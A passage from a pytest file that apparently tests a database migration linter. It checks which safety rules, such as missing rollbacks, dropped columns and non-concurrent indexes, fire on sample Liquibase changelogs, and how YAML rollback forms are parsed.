        ("unsafe/101-index-orders-status.xml", "foreign-key-without-not-valid"),
        ("unsafe/101-index-orders-status.xml", "set-not-null-on-existing-column"),
        ("unsafe/101-index-orders-status.xml", "concurrent-index-in-transaction"),
        ("unsafe/101-index-orders-status.xml", "changeset-without-rollback"),
        ("unsafe/102-drop-legacy-columns.yaml", "changeset-without-rollback"),
        ("unsafe/102-drop-legacy-columns.yaml", "drop-column"),
        ("unsafe/102-drop-legacy-columns.yaml", "change-column-type"),
        ("unsafe/102-drop-legacy-columns.yaml", "unbatched-data-update"),
        ("unsafe/103-backfill.sql", "add-not-null-column-without-default"),
        ("unsafe/103-backfill.sql", "changeset-without-rollback"),
        ("unsafe/103-backfill.sql", "non-concurrent-index"),
        ("unsafe/104-rename.json", "rename-column"),
        ("unsafe/104-rename.json", "drop-table"),
        ("unsafe/104-rename.json", "changeset-without-rollback"),
    } <= found
    assert ("unsafe/102-drop-legacy-columns.yaml", "mixed-schema-and-data-change") not in found


@pytest.mark.parametrize(
    "rollback",
    [
        "rollback: empty",
        "rollback:",
        "rollback: []",
        "rollback: DROP TABLE t",
        "rollback: {dropTable: {tableName: t}}",
    ],
)
def test_every_yaml_rollback_form_counts(rollback: str) -> None:
    text = (
        "databaseChangeLog:\n  - changeSet:\n      id: 50\n      author: lou\n"
        "      changes:\n        - sql:\n            sql: CREATE TABLE t (id int)\n"
        f"      {rollback}\n"
    )
    migration = parse(text, "yaml")
    assert migration.problems == [] and migration.changesets[0].rollback is not None
    assert "changeset-without-rollback" not in rules(text, "yaml")
    down = [
        type(op).__name__
        for op in migration.operations
        if op.step is Step.DOWN and not isinstance(op, ExecuteSQL)
    ]
    assert down == (["DropTable"] if "DROP" in rollback or "dropTable" in rollback else [])
